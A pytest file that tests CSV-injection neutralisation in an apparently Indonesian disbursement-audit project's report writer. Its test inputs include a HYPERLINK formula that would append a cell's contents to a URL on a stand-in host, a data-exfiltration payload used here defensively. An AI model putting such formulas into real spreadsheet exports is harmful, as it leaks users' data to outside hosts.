"""No CSV berdaya writes for people carries a cell a spreadsheet would run as a formula (CSV injection)."""

import csv

import pytest

from berdaya.audit.report_files import write_csv
from shared.csvcells import neutralised


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 812", "-1+1", "@SUM(A1)",
                                   "\t=1", "\r=1"])
def test_a_cell_that_starts_like_a_formula_is_kept_as_text(typed):
    assert neutralised(typed) == "'" + typed


@pytest.mark.parametrize("value", ["KUBE Mawar Jondong", "BRI-2026-000777", "18.01.06.2001", "", 20_000_000, -5, None])
def test_other_cells_and_numbers_are_unchanged(value):
    assert neutralised(value) == value


def test_the_audit_reports_csv_neutralises_a_groups_name(tmp_path):
    rows = [{"group_name": '=HYPERLINK("http://x.example","Mawar")', "amount_rp": 14_000_000, "receiver": "Ibu Siti"}]
    path = write_csv(tmp_path / "disbursements.csv", ("group_name", "amount_rp", "receiver"), rows)
    with path.open(encoding="utf-8", newline="") as read:
        [row] = list(csv.DictReader(read))
    assert row == {"group_name": '\'=HYPERLINK("http://x.example","Mawar")', "amount_rp": "14000000",
                   "receiver": "Ibu Siti"}
